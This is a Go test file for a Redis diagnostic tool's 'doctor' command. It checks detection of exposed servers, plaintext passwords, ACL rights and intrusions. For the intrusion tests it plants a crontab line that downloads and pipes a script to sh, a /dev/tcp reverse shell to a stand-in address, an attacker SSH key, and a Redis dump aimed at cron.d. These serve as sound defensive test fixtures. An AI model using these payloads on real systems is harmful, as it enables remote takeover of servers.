package cli_test

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/olympiades-ia/olymp-cache/internal/redistest"
)

// apart runs a script in networks of its own, which no other machine reaches, and gives what it prints. In it, server starts
// a Redis that waits for nobody, answers waits until one answers, and olymp-cache is the program.
func apart(t *testing.T, script string) string {
	t.Helper()
	for _, program := range []string{"unshare", "ip", "nsenter", "redis-cli"} {
		if _, err := exec.LookPath(program); err != nil || runtime.GOOS != "linux" {
			t.Skipf("%s is needed for a network apart", program)
		}
	}
	if err := exec.Command("unshare", "-n", "true").Run(); err != nil {
		t.Skipf("this user may not make networks: %v", err)
	}
	const prelude = `set -e
ip link set lo up
server() {
	redis-server --port 6379 --save '' --maxmemory 100mb --maxmemory-policy allkeys-lru --dir "$DIR" --logfile "$DIR/log" "$@" &
	started="$started $!"
}
answers() { for i in $(seq 100); do redis-cli "$@" PING >/dev/null 2>&1 && return; sleep 0.1; done; cat "$DIR/log" >&2; exit 9; }
trap 'kill $started 2>/dev/null; wait' EXIT
`
	cmd := exec.CommandContext(t.Context(), "unshare", "-n", "sh", "-c", prelude+script)
	var diag strings.Builder
	cmd.Stderr = &diag
	cmd.Dir = t.TempDir()
	cmd.Env = append(os.Environ(), "DIR="+t.TempDir(), "LANG=C.UTF-8", "REDIS_URL=", "REDIS_ENABLED=", "GITHUB_ACTIONS=", "OLYMP_CACHE_LANG=")
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("%v: %s%s", err, out, diag.String())
	}
	if strings.TrimSpace(string(out)) == "skip" {
		t.Skip("this kernel joins no networks")
	}
	return string(out)
}

// documents reads what several runs of doctor -o json wrote one after the other.
func documents(t *testing.T, text string) []diagnosed {
	t.Helper()
	var all []diagnosed
	for d := json.NewDecoder(strings.NewReader(text)); d.More(); {
		var one diagnosed
		if err := d.Decode(&one); err != nil {
			t.Fatalf("%v: %s", err, text)
		}
		noteRaised(one)
		all = append(all, one)
	}
	return all
}

// TestDoctorExposed: open to all networks; the first command closes it, and nothing but this machine gets in.
func TestDoctorExposed(t *testing.T) {
	t.Parallel()
	all := documents(t, apart(t, `server --bind 0.0.0.0 --protected-mode no
answers
olymp-cache doctor -o json -u redis://127.0.0.1:6379/0 || [ $? = 1 ]
redis-cli -h 127.0.0.1 -p 6379 CONFIG SET protected-mode yes >/dev/null
olymp-cache doctor -o json -u redis://127.0.0.1:6379/0`))
	if len(all) != 2 {
		t.Fatalf("%d documents", len(all))
	}
	if all[0].root() != "security-exposed" || !slices.Contains(all[0].loud(), "security-no-password") {
		t.Errorf("root cause %q, found %q", all[0].root(), all[0].ids())
	}
	if got := all[0].commands("security-exposed"); !slices.Contains(got, "redis-cli -h 127.0.0.1 -p 6379 CONFIG SET protected-mode yes") {
		t.Errorf("what was typed is not what was advised: %q", got)
	}
	if all[1].Status != "ok" {
		t.Errorf("behind protected mode it is %s: %q", all[1].Status, all[1].loud())
	}
}

// TestDoctorPlainText: a password on its way to a public address, which is not one of this machine.
func TestDoctorPlainText(t *testing.T) {
	t.Parallel()
	all := documents(t, apart(t, `unshare -n sleep 60 & far=$!; started=$far
until [ "$(readlink /proc/$far/ns/net)" != "$(readlink /proc/$$/ns/net)" ]; do sleep 0.05; done
ip link add name oc0 type veth peer name oc1 || { echo skip; exit 0; }
ip link set oc1 netns $far
ip addr add 203.0.113.1/24 dev oc0; ip link set oc0 up
nsenter -t $far -n sh -c 'ip link set lo up; ip addr add 203.0.113.7/24 dev oc1; ip link set oc1 up'
nsenter -t $far -n redis-server --port 6379 --bind 203.0.113.7 --requirepass S3cretWord --save '' --maxmemory 100mb \
	--maxmemory-policy allkeys-lru --dir "$DIR" --logfile "$DIR/log" & started="$started $!"
answers -h 203.0.113.7
olymp-cache doctor -o json -u redis://:S3cretWord@203.0.113.7:6379/0`))
	if len(all) != 1 || !slices.Equal(all[0].loud(), []string{"security-plain-text"}) {
		t.Errorf("found %+v", all)
	}
}

// TestDoctorKeptOut: protected mode turned somebody away, and the server was never full.
func TestDoctorKeptOut(t *testing.T) {
	t.Parallel()
	all := documents(t, apart(t, `ip addr add 10.1.1.1/24 dev lo
server --bind 0.0.0.0
answers -h 127.0.0.1
redis-cli -h 10.1.1.1 PING >&2 || true
olymp-cache doctor -o json -u redis://127.0.0.1:6379/0`))
	if len(all) != 1 || all[0].Status != "ok" || !slices.Contains(all[0].ids(), "clients-rejected") {
		t.Fatalf("found %+v", all)
	}
	for _, command := range all[0].commands("clients-rejected") {
		if strings.Contains(command, "maxclients") {
			t.Errorf("a server that was never full is told %q", command)
		}
	}
}

func TestDoctorIntrusion(t *testing.T) {
	t.Parallel()
	for name, make := range map[string]func(t *testing.T) *redistest.Server{
		"a crontab in a key": func(t *testing.T) *redistest.Server {
			s := advised(t)
			do(t, s, "SET", "backup2", "\t\n*/3 * * * * root wd1 -q -O- http://203.0.113.7/x | sh\n")
			return s
		},
		"a shell that calls home": func(t *testing.T) *redistest.Server {
			s := advised(t)
			do(t, s, "SET", "weapon", "\n\n* * * * * bash -i >& /dev/tcp/203.0.113.7/9 0>&1\n\n")
			return s
		},
		"an SSH key in a key": func(t *testing.T) *redistest.Server {
			s := advised(t)
			do(t, s, "SET", "crackit", "\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 root@kali\n\n")
			return s
		},
		"saving to cron's folder": func(t *testing.T) *redistest.Server {
			dir := filepath.Join(t.TempDir(), "etc", "cron.d")
			if err := os.MkdirAll(dir, 0o755); err != nil {
				t.Fatal(err)
			}
			return advised(t, redistest.WithArgs("--dir", dir, "--dbfilename", "root"))
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := make(t)
			wantRoot(t, at(s.URL()), "security-intrusion", 1)
			at(s.URL()).wantTidy(t, failureLines, "S3cretWord")
		})
	}
}

// TestDoctorRights: the user that is advised can do what a cache needs, and no more.
func TestDoctorRights(t *testing.T) {
	t.Parallel()
	s := advised(t)
	d, _ := at(s.URL()).doctor(t)
	commands := d.commands("security-dangerous-commands")
	if len(commands) == 0 {
		t.Fatalf("found %q", d.ids())
	}
	typed(t, commands[0], "S3cretWord")
	do(t, s, "ACL", "SETUSER", "app", ">app-word") // the second command asks at the terminal
	app := at(s.URLOf("app", "app-word", s.Addr()))
	if d, _ := app.doctor(t); d.Status != "ok" || slices.Contains(d.ids(), "security-dangerous-commands") {
		t.Errorf("status %s, found %q", d.Status, d.ids())
	}
	// Too much, and able to say so.
	do(t, s, "ACL", "SETUSER", "app", "+keys", "+flushall", "+acl|getuser")
	d, _ = app.doctor(t)
	commands = d.commands("security-dangerous-commands")
	if len(commands) != 1 || !strings.HasPrefix(commands[0], "ACL SETUSER app ") {
		t.Fatalf("found %q, commands %q", d.ids(), commands)
	}
	do(t, s, strings.Fields(commands[0])...) // an administrator's line
	if d, _ := app.doctor(t); slices.Contains(d.ids(), "security-dangerous-commands") {
		t.Errorf("found %q", d.ids())
	}
	// A setting that this user may not change is asked of another one.
	do(t, s, "CONFIG", "SET", "maxmemory-policy", "noeviction")
	d, _ = app.doctor(t)
	got := strings.Join(d.commands("memory-noeviction"), "\n")
	if !strings.Contains(got, "--askpass CONFIG SET") || strings.Contains(got, "REWRITE") {
		t.Errorf("advised: %q", got)
	}
}

// TestDoctorNoPassword: harmless on loopback; what is advised sets one.
func TestDoctorNoPassword(t *testing.T) {
	t.Parallel()
	s := redistest.Start(t, redistest.WithArgs("--maxmemory", "100mb", "--maxmemory-policy", "allkeys-lru"))
	wantFound(t, at(s.URL()), "ok", "security-no-password")
	d, _ := at(s.URL()).doctor(t)
	commands := d.commands("security-no-password")
	if len(commands) != 2 {
		t.Fatalf("commands %q", commands)
	}
	// Without a terminal the password is read from where it is piped.
	_, rest, _ := strings.Cut(commands[0], " | ")
	typed(t, "printf %s S3cretWord | "+rest, "")
	typed(t, commands[1], "S3cretWord") // CONFIG REWRITE
	if d, _ := at(s.URLOf("default", "S3cretWord", s.Addr())).doctor(t); slices.Contains(d.ids(), "security-no-password") {
		t.Errorf("found %q", d.ids())
	}
}
